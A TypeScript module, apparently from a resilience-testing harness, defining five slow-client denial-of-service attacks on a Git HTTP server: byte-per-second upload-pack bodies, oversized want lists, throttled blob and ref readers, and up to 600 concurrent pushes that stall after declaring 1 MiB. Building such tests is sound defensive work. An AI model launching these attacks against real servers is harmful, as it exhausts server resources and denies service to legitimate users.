import { Readable } from "node:stream"
import { setTimeout as sleep } from "node:timers/promises"
import type { Attack } from "../Attack.ts"
import { basic, call, callers, packet, repositoryUrl } from "../callers.ts"

/** These bytes, and then nothing. */
export const silentAfter = (bytes: Buffer): Readable => {
  const body = new Readable({ read: () => {} })
  body.push(bytes)
  return body
}

async function* slowly(bytes: Buffer): AsyncGenerator<Buffer> {
  for (const byte of bytes) {
    yield Buffer.of(byte)
    await sleep(1_000)
  }
}

const slowFetches: Attack = {
  title: "16 fetches that come in one byte a second",
  prepare: async (target) => {
    const body = Buffer.from(packet("command=ls-refs\n") + packet(`agent=${"x".repeat(1_000)}\n`))
    const headers = {
      "content-type": "application/x-git-upload-pack-request",
      "content-length": String(body.length),
      "git-protocol": "version=2"
    }
    const url = `${repositoryUrl(target, target.renames)}/git-upload-pack`
    return () => callers(16, (caller) => call(caller, { method: "POST", url, headers, body: Readable.from(slowly(body)) }))
  }
}

const longFetches: Attack = {
  title: "16 fetches of which all but 300 KiB come in one byte a second",
  prepare: async (target) => {
    const { history } = target
    const wants = Buffer.from(packet(`want ${history.pairs[0]?.to}\n`).repeat(6_000))
    const headers = {
      "content-type": "application/x-git-upload-pack-request",
      "content-length": String(wants.length + 1_000)
    }
    async function* body() {
      yield wants
      yield* slowly(Buffer.alloc(1_000, "0"))
    }
    const url = `${repositoryUrl(target, history)}/git-upload-pack`
    return () => callers(16, (caller) => call(caller, { method: "POST", url, headers, body: Readable.from(body()) }))
  }
}

const slowReaders: Attack = {
  title: "32 readers of a blob and of many refs who take 16 KiB a second",
  prepare: async (target) => {
    const { long, url } = target
    const paths = [
      `${url}/projects/${long.id}/repository/blobs/${long.blob}/raw`,
      `${repositoryUrl(target, long)}/info/refs?service=git-upload-pack`
    ]
    return () =>
      callers(32, (caller, index) => call(caller, { url: paths[(caller + index) % 2] ?? "", bytesPerSecond: 16 * 1024 }))
  }
}

const silentPushes: Attack = {
  title: "16 pushes that fall silent behind their commands",
  prepare: async (target) => {
    const { attacker, pushes } = target
    const commands = packet(`${"0".repeat(40)} ${"1".repeat(40)} refs/heads/silent\0 report-status\n`)
    const headers = {
      "content-type": "application/x-git-receive-pack-request",
      "content-length": String(1024 * 1024),
      authorization: basic(attacker, attacker.token)
    }
    const url = `${repositoryUrl(target, pushes)}/git-receive-pack`
    const body = () => silentAfter(Buffer.from(`${commands}0000`))
    return () => callers(16, (caller) => call(caller, { method: "POST", url, headers, body: body() }))
  }
}

const longCommands: Attack = {
  title: "600 pushes that fall silent within 250 KiB of commands",
  prepare: async (target) => {
    const { attacker, pushes } = target
    const command = `${"0".repeat(40)} ${"1".repeat(40)} refs/heads/silent`
    const commands = Buffer.from(packet(`${command}\0 report-status\n`) + packet(`${command}\n`).repeat(2_500))
    const headers = {
      "content-type": "application/x-git-receive-pack-request",
      "content-length": String(1024 * 1024),
      authorization: basic(attacker, attacker.token)
    }
    const url = `${repositoryUrl(target, pushes)}/git-receive-pack`
    return () => callers(600, (caller) => call(caller, { method: "POST", url, headers, body: silentAfter(commands) }))
  }
}

export const slowClients = { slowFetches, longFetches, slowReaders, silentPushes, longCommands }
